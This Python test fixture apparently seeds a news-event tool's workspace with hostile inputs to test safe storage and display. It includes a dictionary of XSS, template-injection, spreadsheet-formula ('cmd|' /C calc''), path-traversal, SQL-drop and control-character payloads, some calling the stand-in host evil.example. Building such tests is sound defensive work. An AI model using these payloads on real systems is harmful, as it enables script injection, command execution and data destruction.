"""A desk full of text that means harm: markup, handlers, addresses that run, hidden characters, formulas, giants.

All of it lies in the record as it came, also where reading would have cleaned it: what a page does with text must not
depend on who looked at it before.
"""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from tiny_desk import TinyCoder, article, capture
from tiny_entries import with_entries
from watchfloor import desk as front_door
from watchfloor.desk import Desk
from watchfloor.errors import UsageError
from watchfloor.linking import comparing
from watchfloor.sources.settings import Watched
from watchfloor.store import articles
from watchfloor.store.articles import Incoming
from watchfloor.types import Actor, Article, Cited, Coding, Event, Place, Source, version_of

RUNS = "window.pwned=1"
"""what every script among them would do"""

WORKED_OUT = str(7919 * 6607)
"""what would stand on a page that took one of them for a template"""

PAYLOADS = {
    "script": f"<script>{RUNS}</script>",
    "image": f"\"><img src=x onerror={RUNS}>",
    "svg": f"'><svg/onload={RUNS}>",
    "title": f"</title></textarea></script><script>{RUNS}</script>",
    "comment": "--><!-- ]]> <![CDATA[ <iframe srcdoc=\"<script>parent.pwned=1</script>\">",
    "attribute": f"x\" onmouseover=\"{RUNS}\" autofocus onfocus=\"{RUNS}\" x=\"",
    "style": "</style><style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "form": "</form></table></div></main></body><form action=//evil.example><button>Send</button>",
    "javascript": f"javascript:{RUNS}//",
    "data": f"data:text/html,<script>{RUNS}</script>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "template": "{{7919*6607}} {% for x in range(9) %}{{ x }}{% endfor %} ${7919*6607} #{7919*6607} <%= 7919*6607 %>",
    "link": f"[click](javascript:{RUNS}) &lt;b&gt; &#60;script&#62;",
    "formula": "=HYPERLINK(\"http://evil.example\",\"open\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "bidi": "\u202egnp.exe \u2066isolated \u200f\u061c \u2067",
    "escape": "\x1b[2J\x1b]0;title\x07\x1b]8;;http://evil.example\x07\x9b31m",
    "null": "zero\x00byte \x7f \x85 \u2028 \u2029 \ufeff \ufffe",
    "tags": "tagged \U000e0041\U000e0042\U000e007f",
    "marks": "e" + "\u0301\u0327\u0489" * 400,
    "long": "W" * 10_000,
    "wide": "﷽" * 300,
    "spaces": " " * 40 + "\u3000\u2003\u00ad" * 40 + "end",
    "path": "../../../../etc/passwd%00%2e%2e%5c?as_of=2014#x",
    "quote": "'; DROP TABLE articles; -- \" ' ` \\",
    "emoji": "👩‍👩‍👧‍👦" * 60,
    "arabic": "قال رئيس الوزراء إن القوات «سيطرت» على المدينة",
}  # fmt: skip

FIRST = datetime(2014, 6, 10, 8, tzinfo=UTC)
NOW = datetime(2014, 7, 12, 7, 30, tzinfo=UTC)
SAME = (
    "The rest of the report is the same wherever it is printed, and it is long enough that a copy is found to be one. "
)
ELSEWHERE = Place("", "", "IRQ", "", 36.3, 43.1, "city")

_SENTENCE = re.compile(
    r"‹(?P<actor>[^›]*)› (?P<verb>met|blamed|attacked) ‹(?P<recipient>[^›]*)› in ‹(?P<place>[^›]*)›"
    r" on (?P<day>\d{4}-\d\d-\d\d)\.",
    re.DOTALL,
)


def clock() -> datetime:
    """What time it is at this desk."""
    return NOW


class HostileCoder(TinyCoder):
    """Takes whatever stands in its brackets for the names of actors and places."""

    def code(self, article: Article) -> Coding:
        """The events of an article, and what follows from them for the ledgers."""
        return with_entries(
            Coding(
                article.version, self.id, tuple(self._event(article, one) for one in _SENTENCE.finditer(article.text))
            )
        )

    def _event(self, article: Article, found: re.Match[str]) -> Event:
        event = super()._event(article, found)
        name, words = found["place"].strip(), event.sentence

        def poisoned(one: Cited[Actor]) -> Cited[Actor]:
            return replace(one, value=replace(one.value, office=one.words, kind="person", country="IRQ"))

        start, end = found.span("place")
        place = replace(ELSEWHERE, id=f"x:{name}", name=name, admin=name)
        return replace(
            event,
            actors=tuple(map(poisoned, event.actors)),
            recipients=tuple(map(poisoned, event.recipients)),
            place=Cited(place, replace(words.span, start=start, end=end), found["place"], found["place"]),
        )


def pages() -> list[Article]:
    """Two articles for each of them, the second as a copy with a correction of its first."""
    made: list[Article] = []
    for number, (name, payload) in enumerate(PAYLOADS.items()):
        day = FIRST + timedelta(days=number)
        inside = payload.replace("›", "")
        told = " ".join(
            f"‹{actor}› {verb} ‹{recipient}› in ‹{inside}› on {day.date() + timedelta(days=later)}."
            for actor, verb, recipient, later in (
                (inside, "attacked", "Iraq", 0),
                ("Iran", "blamed", inside, 0),
                (inside, "met", "Iran", 20),
            )
        )
        for copy in range(2):
            text = f"{payload}\n\n{told} {SAME * 6}"
            read = article(f"{name}-{copy}", text, (day + timedelta(hours=copy)).isoformat())
            made.append(
                replace(
                    read,
                    url=payload if copy else f"https://example.org/{name}?q={payload}",
                    title=payload,
                    author=payload,
                    outlet=payload,
                    language="ar" if name == "arabic" else "en",
                    links=(payload,),
                )
            )
    changed = made[0].text.replace("on 2014-06-10", "on 2014-06-11", 1) + made[0].title
    again = replace(made[0], text=changed, version=version_of(made[0].id, made[0].published, changed))
    return [*made, again]


def make(folder: Path) -> Path:
    """Makes the desk, and gives its path."""
    with front_door.init(folder, PAYLOADS["title"][:60], clock) as made:
        record = made._record
        for number, page in enumerate(pages()):
            received = capture(page, NOW - timedelta(hours=1) + timedelta(seconds=number))
            articles.add_all(record, [Incoming(received, page, (), "hostile", "", 0)])
        comparing.compare_new(record)
        made.run(coder=HostileCoder(f"tiny-{PAYLOADS['script']}"))
        _judge(made)
        made.watch_also(
            [Watched(Source(f"s{n}", "feed", f"https://s{n}.example/rss", text)) for n, text in enumerate(_named())]
        )
    watches = "".join(
        f'[[watch]]\nid = "w{number}"\nname = {_toml(text)}\ntext = {_toml(text)}\n\n'
        for number, text in enumerate(_named()[:4])
    )
    (folder / "watches.toml").write_text(watches, encoding="utf-8")
    return folder


def _named() -> list[str]:
    """Those that a file of settings takes."""
    return [text for text in PAYLOADS.values() if text.isprintable() and len(text) < 200]


def _toml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _judge(made: Desk) -> None:
    """Corrections by people who mean harm too."""
    facts = made.events(order="oldest")
    for fact, text in zip(facts, PAYLOADS.values(), strict=False):
        try:
            made.right(fact.event.id, by=text[:100] or "x", why=text)
        except UsageError:
            continue  # what is no text is refused
